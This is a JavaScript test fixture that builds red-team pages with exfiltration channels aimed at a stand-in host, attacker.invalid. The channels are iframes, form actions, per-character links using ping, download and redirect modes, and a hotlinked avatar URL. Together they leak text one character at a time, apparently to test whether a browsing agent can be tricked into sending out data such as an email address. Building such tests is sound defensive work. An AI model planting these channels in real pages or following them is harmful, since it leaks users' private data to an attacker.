// Red-team start pages (the user's own site, honest, with content an attacker placed or a
// third party it embeds). The attacker's origin comes in ?attacker=.
const query = new URLSearchParams(location.search);
const attacker = query.get('attacker') ?? 'http://attacker.invalid';

for (const frame of document.querySelectorAll('iframe[data-attacker-frame]')) {
  frame.src = `${attacker}${frame.dataset.attackerFrame}`;
}
for (const form of document.querySelectorAll('form[data-to-attacker]')) {
  form.action = `${attacker}${form.dataset.toAttacker}`;
}
// One link per character, in the way the row says.
for (const row of document.querySelectorAll('[data-letters]')) {
  for (const c of [...'abcdefghijklmnopqrstuvwxyz', '@', '.']) {
    const link = document.createElement('a');
    const mode = row.dataset.letters;
    const keep = `attacker=${encodeURIComponent(attacker)}`;
    if (mode === 'ping') {
      // A link to a page of this site, with a ping to the attacker (hyperlink auditing).
      link.href = `/redteam/thanks.html?${keep}`;
      link.ping = `${attacker}/p/${encodeURIComponent(c)}`;
    } else if (mode === 'download') {
      link.href = `${attacker}/v/${encodeURIComponent(c)}`;
      link.download = `letter-${c}.txt`;
    } else if (mode === 'download-redirect') {
      link.href = `/go/redirect?to=${encodeURIComponent(`${attacker}/v/${encodeURIComponent(c)}`)}`;
      link.download = `letter-${c}.txt`;
    } else if (mode === 'thread') {
      link.href = `/redteam/thread.html?c=${encodeURIComponent(c)}&${keep}`;
    } else {
      link.href = `${attacker}/v/${encodeURIComponent(c)}`;
    }
    link.textContent = `letter ${c}`;
    row.append(link, ' ');
  }
}
// A forum thread page of this site: the poster's avatar is hotlinked from the attacker's site.
const avatar = document.getElementById('avatar');
if (avatar) avatar.src = `${attacker}/img/${encodeURIComponent(query.get('c') ?? '')}.png`;
